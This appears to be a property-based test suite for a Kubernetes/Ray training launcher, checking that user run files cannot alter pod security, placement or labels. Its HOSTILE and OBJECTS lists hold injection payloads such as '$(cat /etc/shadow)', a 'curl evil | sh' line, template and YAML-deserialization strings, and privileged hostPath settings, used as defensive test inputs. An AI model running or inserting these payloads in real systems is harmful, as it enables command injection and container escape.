"""A run file decides what is trained, and nothing of the pods that train it: whatever stands in one, they are
the platform's but for a few named places."""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field, replace
from fnmatch import fnmatchcase
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import event, given, settings
from hypothesis import strategies as st

from tests.charts.pod_security import violations
from tests.launcher.random_runs import (
    DIGITS,
    EXAMPLE,
    KINDS,
    OPEN_TO_RUNS,
    PATHS,
    PLATFORM,
    SEVERAL_POOLS,
    Made,
    change,
    documents,
    plausible,
    put,
)
from trainyard.errors import ConfigError
from trainyard.labels import APPLICATION_LABEL, GANG_LABEL, PRIORITY_LABELS, QUEUE_LABELS
from trainyard.planning.nodes.affinity import node_terms
from trainyard.planning.objects import run_objects
from trainyard.platform import DataVolume, Platform
from trainyard.run_file.load import load_run
from trainyard.run_file.models import RunConfig
from trainyard.run_file.network import EFA_HUGE_PAGES
from trainyard_trainer.config.trainer_config import CODE_VARIABLE, CONFIG_VARIABLE, read_config
from trainyard_trainer.run_files import submission

NAMESPACE = "team"
OURS = {"app.kubernetes.io/managed-by", "trainyard.io/run"}
QUEUES = {*QUEUE_LABELS.values(), *PRIORITY_LABELS.values(), GANG_LABEL, APPLICATION_LABEL}
OF_THE_NETWORK = re.compile(r"NCCL_[A-Z_]+|GLOO_SOCKET_IFNAME|FI_[A-Z_]+")
DEVICE = re.compile(r"[a-z0-9.-]+/[A-Za-z0-9._-]+")

HOSTILE = (
    "../../etc", "/etc/passwd", "kube-system/x", "x\n  hostNetwork: true", "x\"\n---\nkind: Pod",
    "$(TRAINYARD_LOG)", "$(cat /etc/shadow)", "`id`", "'; curl evil | sh; '", "{{ plan }}",
    "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "!!python/object/apply:os.system [id]",
    "*alias", "&anchor", "privileged", "true", "0", "\u202etxt.exe", "a" * 300, "registry/x:1 --privileged",
    "s3://b/../../x", "/mnt/trainyard/../../proc/1/root",
)  # fmt: skip
OBJECTS: tuple[Any, ...] = (
    {"hostPath": {"path": "/"}},
    [{"name": "root", "hostPath": {"path": "/"}}],
    {"privileged": True, "runAsUser": 0},
    [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}],
    ["sh", "-c", "id"],
)
STRANGERS = (
    "namespace", "metadata", "metadata.namespace", "metadata.labels", "spec", "entrypoint", "command",
    "volumes", "volumeMounts", "hostNetwork", "securityContext", "serviceAccountName",
    "nodeSelector", "tolerations", "rayClusterSpec", "spec.rayClusterSpec.headGroupSpec", "runtimeEnvYAML",
    "submissionMode", "storage", "storage.path", "storage.endpoint", "platform",
    "resources.limits", "__class__", "train.__init__", "data.path", "code", "function",
    "headGroupSpec.template.spec.hostPID", "imagePullSecrets", "network.environment",
)  # fmt: skip
"""Keys that a run file does not have, or that decide what is not its own."""

each_kind = pytest.mark.parametrize("kind", KINDS)
often = settings(max_examples=2 * settings().max_examples // len(KINDS))


@dataclass(frozen=True)
class Own:
    """What a run may change of a pod: these variables, references, labels and annotations alone."""

    variables: set[str] = field(default_factory=set)
    secrets: dict[str, dict[str, str]] = field(default_factory=dict)
    metadata: dict[str, dict[str, str]] = field(default_factory=dict)
    volumes: Sequence[Any] = ()
    data: Sequence[DataVolume] = ()


FOREIGN_KEY = re.compile(
    r"(.*\.)?(trainyard\.io|ray\.io|kubernetes\.io|k8s\.io|x-k8s\.io|helm\.sh|volcano\.sh|"
    r"yunikorn\.apache\.org|kai\.scheduler)/.*|queue|applicationId"
)
"""Keys of labels and annotations that change how trainyard, Ray, Kubernetes or a queue treat an object."""


def own_of(run: RunConfig, platform: Platform) -> Own:
    """What an accepted run file may change of all its pods, checked by rules that are written down again."""
    secrets = {name: each.model_dump() for name, each in run.secrets.items()}
    metadata = {"labels": run.labels, "annotations": run.annotations}
    for name in secrets:
        assert not any(fnmatchcase(name, pattern) for pattern in platform.runs.env.deny)
        assert any(fnmatchcase(secrets[name]["name"], each) for each in platform.runs.secrets)
        assert not name.startswith(("RAY_", "TRAINYARD_"))
    for key in (*run.labels, *run.annotations):
        assert any(fnmatchcase(key, pattern) for pattern in platform.runs.labels)
        assert not FOREIGN_KEY.fullmatch(key)
    offered = {each.name: each for each in platform.data_volumes}
    data = [offered[name] for name in run.volumes]
    for name in run.volumes:
        assert any(fnmatchcase(name, pattern) for pattern in platform.runs.volumes)
    return Own(secrets=secrets, metadata=metadata, data=data)


def confined(document: dict[str, Any], platform: Platform = PLATFORM) -> None:
    """The RayJob of a run file is the platform's but for the named places. Raises ConfigError."""
    run = load_run(document)
    objects = run_objects(run, platform, NAMESPACE)
    planned, job = objects.plan, objects.job
    # What goes over the wire says what the object says.
    assert yaml.safe_load(yaml.safe_dump(job)) == json.loads(json.dumps(job)) == job

    assert (job["apiVersion"], job["kind"]) == ("ray.io/v1", "RayJob")
    metadata = job["metadata"]
    own = own_of(run, platform)
    assert metadata.pop("annotations", {}) == run.annotations
    assert metadata.keys() == {"name", "namespace", "labels"}
    assert metadata["namespace"] == NAMESPACE
    assert re.fullmatch(r"[a-z]([a-z0-9-]{0,45}[a-z0-9])?", metadata["name"])
    assert OURS <= metadata["labels"].keys() - run.labels.keys() <= OURS | QUEUES
    assert run.labels.items() <= metadata["labels"].items()
    for value in metadata["labels"].values():
        assert re.fullmatch(r"([A-Za-z0-9]([A-Za-z0-9._-]{0,61}[A-Za-z0-9])?)?", value)

    spec = job["spec"]
    assert spec["entrypoint"] == "python -I -u -m trainyard_trainer"
    assert spec["submissionMode"] == "HTTPMode"
    assert spec.keys() <= {
        "submissionMode", "entrypoint", "backoffLimit", "preRunningDeadlineSeconds", "suspend",
        "activeDeadlineSeconds",
        "shutdownAfterJobFinishes", "ttlSecondsAfterFinished", "deletionStrategy", "rayClusterSpec",
    }  # fmt: skip

    shape, given = spec["rayClusterSpec"], platform.ray_cluster_spec
    added = {"enableInTreeAutoscaling", "autoscalerOptions"} if planned.is_elastic else set()
    assert shape.keys() == given.keys() | added
    assert {key: shape[key] for key in given.keys() - OPEN} == {
        key: given[key] for key in given.keys() - OPEN
    }
    if planned.is_elastic:
        assert platform.autoscaler is not None
        assert shape["autoscalerOptions"] == platform.autoscaler.options
    volumes = platform.autoscaler.volumes if planned.is_elastic and platform.autoscaler else ()
    ours = {CONFIG_VARIABLE, submission.VARIABLE, *([CODE_VARIABLE] if planned.code else [])}
    head = replace(own, variables=ours, volumes=volumes)
    same_pod(shape["headGroupSpec"], given["headGroupSpec"], head)
    for group in shape["workerGroupSpecs"]:
        pool = group["groupName"].removesuffix("-data")
        given_group = platform.worker_group(pool)
        if group["groupName"] == pool and len(planned.pools) > 1:
            given_group = on_nodes_of(
                group, [platform.worker_group(name) for name in planned.pools]
            )
        same_pod(group, given_group, own)
        if group["groupName"] == pool:
            # Which nodes, and how much of each, is the platform's to say.
            limit = platform.pool(pool).memory_gib * 2**10
            assert int(resources(group)["limits"]["memory"].removesuffix("Mi")) <= limit


def on_nodes_of(group: dict[str, Any], pools: Sequence[dict[str, Any]]) -> dict[str, Any]:
    """The group of the first pool, with the nodes of a group of several pools: those of each pool alone."""
    spec = group["template"]["spec"]
    specs = [pool["template"]["spec"] for pool in pools]
    assert node_terms(spec) == [term for one in specs for term in node_terms(one)]
    tolerations = [each for one in specs for each in one.get("tolerations", [])]
    assert all(each in tolerations for each in spec.get("tolerations", []))
    placed = copy.deepcopy(pools[0])
    placed["template"]["spec"].pop("nodeSelector", None)
    for key in ("affinity", "tolerations"):
        if key in spec:
            placed["template"]["spec"][key] = copy.deepcopy(spec[key])
    assert spec["affinity"].keys() == specs[0].get("affinity", {}).keys() | {"nodeAffinity"}
    return placed


OPEN = {"headGroupSpec", "workerGroupSpecs"}
KNOWN_RESOURCES = {"cpu", "memory", "ephemeral-storage"}


def resources(group: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = group["template"]["spec"]["containers"][0]["resources"]
    return found


def same_pod(group: dict[str, Any], given: dict[str, Any], own: Own) -> None:
    """A group's pod is the platform's, but for image, sizes, labels of ours, and what is the run's own."""
    pod, base = copy.deepcopy(group["template"]), copy.deepcopy(given["template"])
    assert violations(pod["spec"]) == []
    for key, ours in (("labels", OURS), ("annotations", set[str]())):
        found, shape = pod["metadata"].pop(key, {}), base["metadata"].pop(key, {})
        assert found.keys() == shape.keys() | own.metadata.get(key, {}).keys() | ours
        assert (own.metadata.get(key, {}) | {k: shape[k] for k in shape.keys() - ours}).items() <= (
            found.items()
        )
    assert pod["metadata"] == base["metadata"]
    container, like = pod["spec"]["containers"][0], base["spec"]["containers"][0]
    assert isinstance(container.pop("image"), str)
    for quantities in container.pop("resources").values():
        for resource in quantities.keys() - KNOWN_RESOURCES - EFA_HUGE_PAGES.keys():
            assert DEVICE.fullmatch(resource), resource
    assert not {"image", "resources"} & like.keys()
    env = {one["name"]: one for one in container.pop("env", [])}
    for one in like.pop("env", []):
        if not OF_THE_NETWORK.fullmatch(one["name"]):
            assert env.pop(one["name"]) == one
    for name, reference in own.secrets.items():
        assert env.pop(name) == {"name": name, "valueFrom": {"secretKeyRef": reference}}
    assert all(name in own.variables or OF_THE_NETWORK.fullmatch(name) for name in env)
    assert all(one.keys() == {"name", "value"} for one in env.values())
    mounted = [each.volume for each in own.data]
    assert pod["spec"].pop("volumes") == [*base["spec"].pop("volumes"), *mounted, *own.volumes]
    mounts = [each.mount for each in own.data]
    assert container.pop("volumeMounts") == [*like.pop("volumeMounts"), *mounts]
    assert pod == base


hostile = st.one_of(
    st.sampled_from(HOSTILE),
    st.sampled_from(OBJECTS),
    st.tuples(st.sampled_from(HOSTILE), st.text(max_size=10)).map("".join),
)
FREE: dict[tuple[str, ...], Callable[[Sequence[str]], Any]] = {
    ("data", "source"): lambda texts: f"s3://bucket/{''.join(texts)}",
    ("command",): list,
    ("train_loop_config",): lambda texts: {text: [*OBJECTS, *texts] for text in texts},
    ("env",): lambda texts: {f"V{number}": text for number, text in enumerate(texts)},
    ("annotations",): lambda texts: {f"example.com/{n}": text for n, text in enumerate(texts)},
    ("datasets",): lambda texts: dict(zip(texts, texts, strict=True)),
}
"""Keys that take any words, and how they take several."""


def put_words(kind: str, document: dict[str, Any], texts: Sequence[str]) -> None:
    for path in FREE:
        if path in PATHS[kind]:
            put(document, path, FREE[path](texts))
    if "source" in document.get("data", {}):
        # A table at a path takes the place of a data set of the user.
        kept = {key: value for key, value in document["data"].items() if key not in OF_DATASET}
        document["data"] = kept


OF_DATASET = ("dataset", "options")
"""Keys of `data` that exclude `data.source`."""


@st.composite
def attacks(draw: st.DrawFn, kind: str) -> Made:
    """A run file that makes sense but for hostile words where it is free, and often for a few other keys."""
    document, platform = draw(plausible(kind))
    put_words(kind, document, draw(st.lists(st.sampled_from(HOSTILE), min_size=1, max_size=3)))
    return change(draw, kind, document, hostile) if draw(st.booleans()) else document, platform


@each_kind
@pytest.mark.parametrize("texts", [HOSTILE, ("x",)], ids=["hostile", "plain"])
def test_any_words_are_taken_where_they_are_free_and_change_nothing_of_the_pods(
    kind: str, texts: Sequence[str]
) -> None:
    document = copy.deepcopy(KINDS[kind])
    put_words(kind, document, texts)
    assert document != KINDS[kind]
    confined(document, PLATFORM.model_copy(update={"runs": OPEN_TO_RUNS}))


@each_kind
@often
@given(data=st.data())
def test_whatever_a_run_file_says_its_pods_are_the_platform_s(
    kind: str, data: st.DataObject
) -> None:
    anything = documents(kind).map(lambda document: (document, PLATFORM))
    try:
        confined(*data.draw(st.one_of(attacks(kind), anything)))
    except ConfigError:
        event("refused")
    else:
        event("rendered")


@each_kind
@often
@given(data=st.data())
def test_what_makes_sense_is_confined_too(kind: str, data: st.DataObject) -> None:
    try:
        confined(*data.draw(plausible(kind)))
    except ConfigError:
        event("refused")
    else:
        event("rendered")


@pytest.mark.parametrize(
    "key",
    [
        *(*sorted(OURS), *sorted(QUEUES), "ray.io/cluster", "ray.io/is-ray-node", "queue"),
        *(
            "pod-security.kubernetes.io/enforce",
            "kubernetes.io/hostname",
            "x.k8s.io/a",
            "helm.sh/a",
        ),
        *("container.apparmor.security.beta.kubernetes.io/ray-head", "volcano.sh/task-spec"),
    ],
)
@pytest.mark.parametrize("field", ["labels", "annotations"])
def test_keys_that_others_act_on_are_refused_whatever_the_platform_permits(
    field: str, key: str
) -> None:
    with pytest.raises(ConfigError, match="belongs to trainyard, Ray, Kubernetes, Helm or a queue"):
        load_run(DIGITS | {field: {key: "x"}})


@pytest.mark.parametrize("key", STRANGERS)
@pytest.mark.parametrize("value", [*OBJECTS, HOSTILE[0], True])
def test_a_key_that_decides_about_pods_is_no_key_of_a_run_file(
    tmp_path: Path, key: str, value: Any
) -> None:
    with pytest.raises(ConfigError):
        load_run(EXAMPLE, [f"{key}={json.dumps(value)}"])
    document = copy.deepcopy(DIGITS)
    document[key.partition(".")[0]] = value
    (tmp_path / "run.yaml").write_text(yaml.safe_dump(document))
    with pytest.raises(ConfigError):
        load_run(tmp_path / "run.yaml")


@each_kind
def test_what_is_no_key_of_one_kind_is_named_in_its_refusal(kind: str) -> None:
    own = {path[0] for path in PATHS[kind]} | {"train", "command", "function"}
    strangers = {key.partition(".")[0] for key in STRANGERS} - own
    with pytest.raises(ConfigError) as error:
        load_run(KINDS[kind] | dict.fromkeys(strangers, True))
    unknown = [line.partition(": unknown key")[0] for line in error.value.details]
    assert sorted(unknown) == sorted(strangers)


@pytest.mark.parametrize("text", [text for text in HOSTILE if not text.isalpha()])
def test_a_name_that_leads_elsewhere_is_refused(text: str) -> None:
    with pytest.raises(ConfigError):
        load_run(EXAMPLE, name=text)
    with pytest.raises(ConfigError):
        load_run(EXAMPLE, [f"name={json.dumps(text)}"])


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_of_the_run_file_travels_in_one_variable_and_arrives_as_it_was(text: str) -> None:
    """`data.source` takes any path; Kubernetes makes one dollar of two, and no shell sees it."""
    source = f"s3://bucket/{text}"
    document = copy.deepcopy(DIGITS) | {"data": {"source": source}}
    confined(document)
    job = run_objects(load_run(document), PLATFORM, NAMESPACE).job
    container = job["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0]
    (variable,) = [one for one in container["env"] if one["name"] == CONFIG_VARIABLE]
    value = variable.pop("value")
    assert json.dumps(source)[1:-1] not in json.dumps(job)
    config = read_config({CONFIG_VARIABLE: value.replace("$$", "$")})
    assert config.data.source == source
    # No single dollar is left that Kubernetes would take for a variable.
    assert "$" not in value.replace("$$", "")


@pytest.mark.parametrize("kind", [kind for kind in KINDS if "code" in KINDS[kind]])
def test_the_names_and_contents_of_code_change_nothing_of_the_pods(
    tmp_path: Path, kind: str
) -> None:
    for number, text in enumerate(HOSTILE):
        (tmp_path / f"{number}").write_text(text)
        if "/" not in text and len(text) < 256:
            (tmp_path / text).write_text(text)
    confined(KINDS[kind] | {"code": str(tmp_path)})


@pytest.mark.parametrize("kind", sorted(KINDS.keys() - {"gradient_boosting"}))
@pytest.mark.parametrize("pools", [["spot", "on-demand"], ["on-demand", "spot"], ["spot"]])
def test_a_list_of_pools_leads_to_their_nodes_and_to_no_others(kind: str, pools: list[str]) -> None:
    document = KINDS[kind] | {"resources": {"gpus": 8, "pool": pools}}
    confined(document, SEVERAL_POOLS)


@pytest.mark.parametrize("code", ["a" * 300, "a\0b", "loop", "no/such"])
def test_a_code_that_is_no_folder_is_refused(tmp_path: Path, code: str) -> None:
    (tmp_path / "loop").symlink_to("loop")
    with pytest.raises(ConfigError, match="code = "):
        confined(KINDS["command"] | {"code": f"{tmp_path}/{code}"})


def test_the_search_finds_a_pod_that_is_not_the_platform_s() -> None:
    """Each of the places that a run file must not reach."""
    spec = PLATFORM.ray_cluster_spec
    group = copy.deepcopy(spec["headGroupSpec"])
    group["template"]["metadata"]["labels"] |= dict.fromkeys(OURS, "x")
    group["template"]["spec"]["containers"][0] |= {"image": "a:1", "resources": {}}
    same_pod(group, spec["headGroupSpec"], Own())
    changes: dict[str, Any] = {
        "hostNetwork": True,
        "serviceAccountName": "other",
        "volumes": [{"name": "tmp", "hostPath": {"path": "/"}}],
        "nodeSelector": {"a": "b"},
        "initContainers": [{"name": "x"}],
    }
    for key, value in changes.items():
        wrong = copy.deepcopy(group)
        wrong["template"]["spec"][key] = value
        with pytest.raises(AssertionError):
            same_pod(wrong, spec["headGroupSpec"], Own())
    for key in ("command", "args", "envFrom", "volumeMounts", "securityContext", "lifecycle"):
        wrong = copy.deepcopy(group)
        wrong["template"]["spec"]["containers"][0][key] = [{"name": "x"}]
        with pytest.raises((AssertionError, AttributeError)):
            same_pod(wrong, spec["headGroupSpec"], Own())
    wrong = copy.deepcopy(group)
    env = wrong["template"]["spec"]["containers"][0]["env"]
    for variable in ({"value": "x"}, {"valueFrom": {"secretKeyRef": {"name": "a", "key": "b"}}}):
        env.append({"name": "LD_PRELOAD"} | variable)
        with pytest.raises(AssertionError):
            same_pod(wrong, spec["headGroupSpec"], Own())
        env.pop()
    for key in ("labels", "annotations"):
        wrong = copy.deepcopy(group)
        wrong["template"]["metadata"].setdefault(key, {})["ray.io/group"] = "x"
        with pytest.raises(AssertionError):
            same_pod(wrong, spec["headGroupSpec"], Own())
